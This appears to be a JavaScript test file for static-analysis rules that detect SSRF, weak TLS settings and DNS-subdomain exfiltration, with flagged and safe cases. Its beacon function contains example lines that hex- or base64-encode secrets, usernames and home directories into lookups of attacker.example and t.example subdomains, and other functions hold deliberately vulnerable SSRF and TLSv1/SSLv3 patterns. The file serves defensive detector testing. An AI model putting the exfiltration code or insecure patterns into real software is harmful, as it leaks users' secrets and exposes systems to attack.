// Tests for network.yaml.
const https = require('https');
const axios = require('axios');
const dns = require('dns');
const { lookup } = require('node:dns');
import ax from 'axios';
import * as http from 'node:http';
import { request as undiciRequest } from 'undici';
import got from 'got';
import { get as fetchUrl } from 'node:https';
const { resolve4: r4 } = require('dns');
const os = require('os');

function handlers(app) {
  app.get('/proxy', async (req, res) => {
    // ruleid: js.ssrf.request-url-from-request
    const r = await fetch(req.query.url);
    // ruleid: js.ssrf.request-url-from-request
    axios.get(req.body.target);
    // ruleid: js.ssrf.request-url-from-request
    dns.lookup(req.params.host, () => {});
    // ruleid: js.ssrf.request-url-from-request
    ax.post(`${req.query.hook}/notify`, { ok: true });
    // ruleid: js.ssrf.request-url-from-request
    http.get({ host: req.query.host, path: '/' }, () => {});
    // ruleid: js.ssrf.request-url-from-request
    await undiciRequest(req.body.url);
    // ruleid: js.ssrf.request-url-from-request
    await got(req.query.src);
    // ruleid: js.ssrf.request-url-from-request
    fetchUrl(req.query.feed, (r2) => r2.resume());
    // ok: js.ssrf.request-url-from-request
    await fetch('https://api.example.com/v1/items');
    // ok: js.ssrf.request-url-from-request
    axios.get(`${BASE}/items/${encodeURIComponent(req.query.id)}`);
    // ok: js.ssrf.request-url-from-request
    cache.get(req.query.url);
    // ok: js.ssrf.request-url-from-request
    require('net').isIP(req.query.host);
    res.json(r);
  });
}

function tlsOptions(tls) {
  return [
    // ruleid: js.tls.weak-protocol
    https.request({ host: 'x', secureProtocol: 'SSLv3_method' }),
    // ruleid: js.tls.weak-protocol
    https.request({ host: 'x', secureProtocol: 'TLSv1_method' }),
    // ruleid: js.tls.weak-protocol
    https.request({ host: 'x', minVersion: 'TLSv1' }),
    // ruleid: js.tls.weak-protocol
    tls.connect({ host: 'x', 'minVersion': "TLSv1.1" }),
    // ok: js.tls.weak-protocol
    https.request({ host: 'x', minVersion: 'TLSv1.2' }),
    // ok: js.tls.weak-protocol
    https.request({ host: 'x', secureProtocol: 'TLSv1_2_method' }),
    // ok: js.tls.weak-protocol
    https.request({ host: 'x', maxVersion: 'TLSv1.3' }),
    // ok: js.tls.weak-protocol
    https.request({ host: 'x', secureProtocol: 'SSLv23_method' }),
  ];
}

function setTls(tls, agent) {
  // ruleid: js.tls.weak-protocol
  require('tls').DEFAULT_MIN_VERSION = 'TLSv1';
  // ruleid: js.tls.weak-protocol
  agent.options.secureProtocol = 'TLSv1_1_method';
  // ok: js.tls.weak-protocol
  tls.DEFAULT_MIN_VERSION = 'TLSv1.2';
}

async function beacon(secret, name) {
  // ruleid: js.exfil.dns-subdomain
  dns.lookup(`${Buffer.from(secret).toString('hex')}.x.attacker.example`, () => {});
  // ruleid: js.exfil.dns-subdomain
  lookup(os.hostname() + '.' + os.userInfo().username + '.t.example', () => {});
  // ruleid: js.exfil.dns-subdomain
  await require('dns').promises.resolve4(`${process.env.USER}.${Buffer.from(os.homedir()).toString('base64url')}.t.example`);
  // ruleid: js.exfil.dns-subdomain
  new dns.Resolver().resolveTxt(btoa(secret) + '.t.example', () => {});
  // ruleid: js.exfil.dns-subdomain
  r4(`${Buffer.from(secret).toString('base64')}.t.example`, () => {});
  // ok: js.exfil.dns-subdomain
  dns.lookup('registry.npmjs.org', () => {});
  // ok: js.exfil.dns-subdomain
  dns.lookup(`${name}.svc.cluster.local`, () => {});
  // ok: js.exfil.dns-subdomain
  dns.lookup(process.env.DB_HOST, () => {});
  // ok: js.exfil.dns-subdomain
  dns.lookup(os.hostname(), () => {});
  const label = Buffer.from(JSON.stringify({ u: os.userInfo().username })).toString('hex');
  // ruleid: js.exfil.dns-subdomain
  dns.resolve4(label.slice(0, 60), () => {});
  const chunks = label.match(/.{1,60}/g);
  chunks.forEach((c, i) => {
    // ruleid: js.exfil.dns-subdomain
    dns.lookup(`${i}.${c}.t.example`, () => {});
  });
  for (const piece of chunks) {
    // ruleid: js.exfil.dns-subdomain
    dns.resolveTxt(piece, () => {});
  }
  const host = process.env.DB_HOST || 'localhost';
  // ok: js.exfil.dns-subdomain
  dns.lookup(host, () => {});
  const self = os.hostname();
  // ok: js.exfil.dns-subdomain
  dns.lookup(self, () => {});
  const peers = ['a.example.com', 'b.example.com'];
  // ok: js.exfil.dns-subdomain
  peers.forEach((p) => dns.lookup(p, () => {}));
}
module.exports = { handlers, tlsOptions, setTls, beacon };
